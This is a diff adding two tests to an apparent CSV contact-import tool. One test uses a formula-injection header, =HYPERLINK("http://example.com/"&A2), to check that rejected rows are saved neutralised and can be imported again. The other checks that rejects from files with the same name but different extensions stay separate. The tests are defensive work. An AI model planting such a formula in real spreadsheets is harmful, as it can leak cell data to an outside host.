@@ -78,6 +78,42 @@ def test_each_kind_of_damage_is_saved_as_far_as_it_can_be_read(register: Registe
     assert len(found) == 4
 
 
+def test_a_header_is_no_formula_in_the_file_either_and_is_itself_when_given_again(
+    register: Register, tmp_path: Path
+):
+    """A spreadsheet evaluates it as it does a cell, and it stands above everybody's data."""
+    sly = '=HYPERLINK("http://example.com/"&A2)'
+    mapping, file, saved = tmp_path / "m.toml", tmp_path / "f.csv", tmp_path / "saved.csv"
+    mapping.write_text(
+        f'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\n\'{sly}\' = "contact.name"\n'
+    )
+    quoted = sly.replace('"', '""')
+    file.write_text(f'E,"{quoted}"\nhuono,Ovela\nkelpo@example.com,K\n')
+
+    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0
+
+    assert rows(saved)[0][:2] == ["E", f"'{sly}"]
+    saved.write_text(saved.read_text(encoding="utf-8-sig").replace("huono", "ovela@example.com"))
+    assert main(["import", str(saved), "--mapping", str(mapping)]) == 0
+    assert len(who(register, "ovela@example.com")) == 1
+
+
+def test_files_whose_names_differ_by_their_ending_alone_lose_no_row_to_each_other(
+    register: Register, tmp_path: Path
+):
+    mapping, saved = tmp_path / "m.toml", tmp_path / "saved"
+    mapping.write_text(
+        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
+    )
+    files = [tmp_path / "lista.csv", tmp_path / "lista.txt"]
+    for number, file in enumerate(files):
+        file.write_text(f"E,N\nhuono{number},A\n")
+
+    assert main(["import", *map(str, files), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0
+
+    assert sorted(row[0] for path in saved.iterdir() for row in rows(path)[1:]) == ["huono0", "huono1"]
+
+
 def test_rows_of_a_workbook_become_a_table_of_text(register: Register, tmp_path: Path):
     mapping, saved = tmp_path / "m.toml", tmp_path / "saved.csv"
     mapping.write_text(
